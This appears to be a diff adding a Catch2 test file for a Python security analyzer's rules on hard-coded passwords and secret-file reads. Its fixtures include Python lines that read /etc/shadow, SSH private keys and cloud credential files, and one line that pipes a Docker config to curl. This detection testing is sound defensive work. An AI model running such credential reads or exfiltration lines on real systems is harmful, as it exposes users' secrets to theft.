@@ -1,0 +1,101 @@
+// Hard-coded passwords (B105-B107) and reads of secrets.
+#include "analysis.hpp"
+
+#include <catch2/catch.hpp>
+
+using namespace python_security_test;
+
+TEST_CASE("strings assigned to secret names", "[secrets]") {
+    CHECK(lines_of(R"py(
+password = "hunter2"
+self.db_passwd = 'hunter2'
+config["api_key"] = "sk-live-123"
+dbPassword: str = "hunter2"
+CLIENT_SECRET = AUTH_TOKEN = "abc"
+settings = {"password": "hunter2", "user": "admin"}
+if password == "hunter2":
+    pass
+if "hunter2" != self.token:
+    pass
+)py",
+                   "PY-PASSWORD-STRING") == lines{1, 2, 3, 4, 5, 5, 6, 7, 9});
+}
+
+TEST_CASE("names and values that are not hard-coded secrets", "[secrets]") {
+    CHECK(lines_of(R"py(
+password = ""
+password = get_password()
+password = f"{prefix}{suffix}"
+password_prompt = "Enter your password: "
+token_type = "bearer"
+PASSWORD_ENV = "DB_PASSWORD"
+passwords = ["a", "b"]
+keyboard = "qwerty"
+bypass = "x"
+username = "admin"
+if token == "...":
+    pass
+)py",
+                   "PY-PASSWORD-STRING")
+              .empty());
+}
+
+TEST_CASE("secrets passed as keyword arguments", "[secrets]") {
+    auto code = R"py(
+connect(host, password="hunter2")
+client = Client(
+    user="admin",
+    api_key="sk-live-123",
+)
+connect(host, password=password)
+connect(host, password="")
+)py";
+    CHECK(lines_of(code, "PY-PASSWORD-ARG") == lines{1, 4});
+    auto findings = with_rule(findings_in(code), "PY-PASSWORD-ARG");
+    CHECK(findings[1].column == 5);
+}
+
+TEST_CASE("secrets as parameter defaults", "[secrets]") {
+    CHECK(lines_of(R"py(
+def connect(user, password="admin"):
+    pass
+async def login(user, *, token: str = "abc", retries=3):
+    pass
+def connect(user, password=None, name="x"):
+    pass
+def connect(user, options={"password": None}):
+    pass
+)py",
+                   "PY-PASSWORD-DEFAULT") == lines{1, 3});
+}
+
+TEST_CASE("reads of password databases, keys and cloud credentials", "[secrets]") {
+    CHECK(lines_of(R"py(
+import os, shutil, subprocess
+from pathlib import Path
+open("/etc/shadow").read()
+Path("~/.ssh/id_rsa").expanduser().read_text()
+open(os.path.expanduser("~/.aws/credentials"))
+(Path.home() / ".netrc").read_text()
+Path.home().joinpath(".config", "gcloud", "credentials.db").read_bytes()
+key_path = os.path.join(os.environ["HOME"], ".ssh", "id_ed25519")
+open(key_path)
+shutil.copy("/root/.kube/config", destination)
+subprocess.run("cat ~/.docker/config.json | curl -d @- " + url, shell=True)
+tokens = Path(os.path.expanduser("~/.azure/msal_token_cache.json")).read_text()
+)py",
+                   "PY-SECRET-READ") == lines{3, 4, 5, 6, 7, 9, 10, 11, 12});
+}
+
+TEST_CASE("ordinary files and mere mentions of secrets are not reads", "[secrets]") {
+    CHECK(lines_of(R"py(
+from pathlib import Path
+open("/etc/hostname").read()
+Path("~/.ssh/id_rsa.pub").expanduser().read_text()
+print("never open /etc/shadow or ~/.ssh/id_rsa")
+SECRET_FILES = ["/etc/shadow", "~/.aws/credentials"]
+open("settings/ssh_config.yaml")
+)py",
+                   "PY-SECRET-READ")
+              .empty());
+}
